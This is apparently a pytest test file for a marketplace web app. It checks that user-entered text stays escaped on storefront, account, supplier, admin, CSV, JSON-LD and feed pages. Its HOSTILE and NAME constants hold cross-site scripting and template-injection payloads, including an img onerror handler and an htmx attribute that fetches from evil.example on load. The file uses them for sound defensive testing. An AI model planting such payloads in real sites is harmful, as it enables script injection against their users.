"""Words people keep with us stay words on every page they reach: text, attributes, drawings, JSON-LD, feeds, CSV."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from marketplace.domains.aftersales.review import review
from marketplace.domains.orders.models import Order
from marketplace.domains.orders.reading.find import get_order
from marketplace.foundation import actors, clock
from marketplace.foundation.db import door, session
from marketplace.journeys.confirm_receipt import confirm_receipt
from tests import cast
from tests.factories import paying
from tests.factories.shopping import Buyer

if TYPE_CHECKING:
    from tests.client import Client
    from tests.pages import Page

HOSTILE = (
    "</script></title></svg>\"'><img src=x onerror=alert(1)>"
    "<a hx-get=//evil.example hx-trigger=load>{{1234567*7}}"
)
WORDS = {"en": HOSTILE, "zh": HOSTILE}
NAME = "=<b onclick=alert(1)>\"'&"


def harmless(page: Page) -> Page:
    """Look at a page the strict reader took (it refuses inline code) for tags that came out of words."""
    assert "<img src=x" not in page.text
    assert "<a hx-get=//evil" not in page.text
    assert "<b onclick" not in page.text
    assert "8641969" not in page.text
    return page


def called(who: cast.Person) -> cast.Person:
    """Give somebody a hostile name."""
    who.display_name = NAME
    session.commit()
    return who


def stage() -> tuple[cast.Shelf, Order]:
    """Return hostile goods of a hostile supplier, bought and reviewed by somebody of a hostile name."""
    goods = cast.product(brand="Evil", title=WORDS, summary=WORDS)
    seller = cast.supplier("Evil", about=WORDS)
    seller.name = WORDS
    shelf = cast.shelf(of=seller, what=goods, sku=NAME)
    buyer = Buyer(called(cast.person("Mallory")))
    order = paying.delivered_order(shelf, by=buyer)
    at = clock.now()
    with door():
        session.get_one(Order, order.id).note = HOSTILE
        confirm_receipt(order_id=order.id, actor=actors.person(buyer.id, "buyer"), at=at)
    with door():
        bought = get_order(order.number)
        review(order=bought, line=bought.lines[0], person_id=buyer.id, stars=5, words=HOSTILE, at=at)
    session.rollback()
    return shelf, order


def test_words_stay_words_for_buyers(client: Client) -> None:
    shelf, order = stage()
    for url in (
        "/",
        f"/products/{shelf.product.slug}",
        f"/products/{shelf.product.slug}?lang=zh",
        f"/compare?p={shelf.product.slug}",
        "/categories/two-door",
        f"/search?q={HOSTILE[:60].replace('#', '')}",
        "/search?q=evil",
    ):
        harmless(client.get(url))
    product = client.get(f"/products/{shelf.product.slug}")
    said = [json.loads("".join(e.itertext())) for e in product.all("script", type="application/ld+json")]
    assert said
    client.as_(session.get_one(cast.Person, order.buyer_id))
    for url in (
        "/orders",
        f"/orders/{order.number}",
        f"/orders/{order.number}/form",
        "/account/",
        "/account/profile",
    ):
        harmless(client.get(url).is_(200))


def test_words_stay_words_for_suppliers(client: Client) -> None:
    shelf, order = stage()
    client.as_(called(cast.worker_of(shelf.supplier)))
    own = f"orders/{order.number}"
    for page in ("", "orders", own, f"{own}/packing-slip", "offers", "reviews", "profile", "people"):
        harmless(client.get(f"/supplier/{page}").is_(200))
    assert "\"'=<b" in client.get("/supplier/offers.csv").text


def test_words_stay_words_for_staff(client: Client) -> None:
    shelf, order = stage()
    client.as_(called(cast.admin()))
    one = f"people/{order.buyer_id}", f"orders/{order.number}", f"suppliers/{shelf.supplier.slug}"
    for page in ("", "orders", "people", "suppliers", "reviews", "products", "staff", "machinery", *one):
        harmless(client.get(f"/admin/{page}").is_(200))


def test_words_stay_words_for_machines(client: Client) -> None:
    stage()
    for url in ("/sitemap.xml", "/categories/two-door/feed.xml", "/manifest.webmanifest"):
        text = client.get(url).text
        assert "<img" not in text
        assert "</script>" not in text
